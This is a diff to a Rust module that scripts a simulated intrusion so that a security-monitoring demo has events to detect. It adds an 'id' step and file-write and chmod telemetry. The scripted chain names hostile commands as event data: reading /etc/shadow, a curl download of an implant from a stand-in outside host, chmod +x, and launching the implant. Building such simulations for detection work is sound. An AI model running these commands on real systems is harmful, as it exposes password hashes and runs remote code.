@@ -1,7 +1,8 @@
 //! A small intrusion for the fleet to play, so that a demo has something true to find.
 //!
 //! ```text
-//! host 0, frontend   nginx ─ sh ─┬─ cat /etc/shadow
+//! host 0, frontend   nginx ─ sh ─┬─ id
+//!                                ├─ cat /etc/shadow
 //!                                ├─ curl: a program from outside into /tmp
 //!                                ├─ chmod
 //!                                └─ /tmp/update ── connection ──▶ host 1, api, another region
@@ -67,6 +68,9 @@ impl Script<'_> {
         let server = Arc::clone(&self.fleet.hosts[VICTIM].actors[ACTOR].process);
         let shell = self.start(0, &server, "/bin/sh", "sh -c id; exec sh");
 
+        let id = self.start(200, &shell, "/usr/bin/id", "id");
+        self.exit(205, &id);
+
         let cat = self.start(1_000, &shell, "/bin/cat", "cat /etc/shadow");
         self.open(1_002, &cat, "/etc/shadow", 0o100_000);
         self.exit(1_010, &cat);
@@ -74,9 +78,12 @@ impl Script<'_> {
         let curl = self.start(3_000, &shell, "/usr/bin/curl", &format!("curl -s -o {IMPLANT} http://{OUTSIDE}/update"));
         self.fetch(3_020, &curl);
         self.open(3_200, &curl, IMPLANT, 0o101_101);
+        self.tell(3_210, &curl, Kind::Write, Fields { path: Some(IMPLANT.into()), result: Some(65_536), ..Fields::default() });
         self.exit(3_910, &curl);
 
         let chmod = self.start(4_500, &shell, "/bin/chmod", &format!("chmod +x {IMPLANT}"));
+        let mode = Fields { path: Some(IMPLANT.into()), mode: Some(0o755), result: Some(0), ..Fields::default() };
+        self.tell(4_502, &chmod, Kind::Chmod, mode);
         self.exit(4_510, &chmod);
 
         let implant = self.start(5_000, &shell, IMPLANT, IMPLANT);
